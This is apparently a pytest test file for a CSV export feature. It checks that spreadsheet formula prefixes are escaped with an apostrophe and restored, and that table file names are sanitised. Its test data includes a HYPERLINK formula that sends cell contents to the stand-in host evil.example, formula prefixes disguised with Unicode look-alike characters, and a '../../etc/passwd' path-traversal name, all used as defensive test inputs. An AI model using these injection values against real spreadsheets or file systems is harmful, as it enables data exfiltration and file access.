"""CSV tables: readable by spreadsheets, and without formulas."""

from __future__ import annotations

import csv
import io
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.export.customer import PURCHASE, buy, files_of, somebody
from vault.export.contents import table_paths
from vault.export.formulas import _UNSEEN as UNSEEN
from vault.export.formulas import escape_formula, unescape_formula

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "\u00a0=1",
    "\ufeff=1",
    "\u200b=1",
    "\u061c=1",
    "\u180e=1",
    "\u2066=1",
    "\uff1d1",
    "\uff0b1",
    "\uff0dcmd",
    "\uff20SUM",
    "'=1",
    '"=1',
    '=HYPERLINK("http://evil.example/?"&A1)',
    "+442079460123",
]
INSIDE = ["a;=1+1", "a\t=1", "a\n=1", "a\r\n@x", "a|+1", 'a";=1', "a; =1", "a;\uff1d1"]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_formula_is_escaped_by_an_apostrophe(value):
    assert escape_formula(value).startswith(f"'{value[0]}")
    assert escape_formula(value).replace("'", "") == value.replace("'", "")


@pytest.mark.parametrize("value", INSIDE)
def test_a_formula_after_another_separator_is_escaped(value):
    written = escape_formula(value)

    assert re.sub(r"(?<=[;|\t\r\n])'", "", written) == value
    assert not re.search(r"[;|\t\r\n]\s*[=+@\-\uff1d]", written)


@pytest.mark.parametrize("value", ["", "a", "12.90", "-12.90", "0", "a=b", "a-b", "x; y", "2026-03-05", "Ada & Co"])
def test_other_values_are_not_changed(value):
    assert escape_formula(value) == value


@given(st.text(alphabet=st.sampled_from("=+-@;|\t\r\n '\"ab1\uff1d\u00a0"), max_size=12))
@settings(max_examples=200)
def test_escaping_loses_nothing_and_no_part_begins_a_formula(value):
    written = escape_formula(value)

    assert len(written) >= len(value)
    assert [item for item in written if item != "'"] == [item for item in value if item != "'"]
    if not re.fullmatch(r"-?\d+", value):
        for part in re.split(r"[;|\t\r\n]", written):
            assert not part.strip().startswith(tuple("=+-@\uff1d")), (value, written)


async def test_a_table_contains_the_records(sqlite_node):
    subject = await somebody(sqlite_node, records={}, purchases=0)
    await buy(sqlite_node, subject, 1, product='Say "hi", \u00e9', store="=2+5")
    files = await files_of(sqlite_node, subject)
    raw = files["csv/purchase.csv"]

    assert raw.startswith(b"\xef\xbb\xbf")
    assert raw.endswith(b"\r\n")
    ((head, row), text) = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""), strict=True)), raw.decode()
    answer = dict(zip(head, row, strict=True))
    assert answer | {"product": 'Say "hi", é', "store": "'=2+5"} == answer
    assert answer["amount"] == PURCHASE["amount"] == "-12.90"
    assert (answer["source"], answer["kept_until"]) == ("shop", "2036-03-05")
    assert text.count("\r\n") == 2
    assert all(line.startswith(('"', "\ufeff")) for line in text.split("\r\n")[:-1])


async def test_an_address_has_a_column_for_each_part(sqlite_node):
    files = await files_of(sqlite_node, await somebody(sqlite_node, records={}, purchases=0))
    head, row = csv.reader(io.StringIO(files["csv/profile.csv"].decode("utf-8-sig"), newline=""))
    answer = dict(zip(head, row, strict=True))

    assert answer["address.city"] == "London"
    assert answer["address.region"] == ""
    assert answer["phone"] == "'+442079460123"
    assert answer["preferences"] == '{"news":true,"topics":["poetry","engines"]}'


def test_tables_are_named_by_their_collection_if_the_name_is_a_valid_file_name():
    named = table_paths(["purchase", "../../etc/passwd", "con", "a/b", "com1", "A", ""])

    assert list(named.values()) == [
        "csv/purchase.csv",
        "csv/collection-2.csv",
        "csv/con_.csv",
        "csv/collection-4.csv",
        "csv/com1_.csv",
        "csv/collection-6.csv",
        "csv/collection-7.csv",
    ]
    assert len(set(named.values())) == len(named)


@pytest.mark.parametrize("unseen", ["\n", "\t", ";", "'", " ", ";\n", "=;", "\u200b"])
def test_escaping_looks_at_each_character_once(monkeypatch, unseen):
    looked = []

    class Pattern:
        def match(self, character):
            looked.append(character)
            return UNSEEN.match(character)

    monkeypatch.setattr("vault.export.formulas._UNSEEN", Pattern())
    value = "a" + unseen * 5_000 + "=b"

    assert escape_formula(value).endswith("=b")
    assert len("".join(looked)) <= len(value)


@given(st.text(alphabet=st.sampled_from("=+-@;|\t\r\n '\"ab1\uff1d\u00a0"), max_size=12) | st.text(max_size=20))
@settings(max_examples=500)
def test_the_apostrophes_can_be_taken_out_again(value):
    assert unescape_formula(escape_formula(value)) == value


@pytest.mark.parametrize("value", [*FORMULAS, *INSIDE, "'\n", "''\ta", "'=1", "O'Neill", "'tis", "-5", "'-5"])
def test_what_was_escaped_is_read_back(value):
    assert unescape_formula(escape_formula(value)) == value
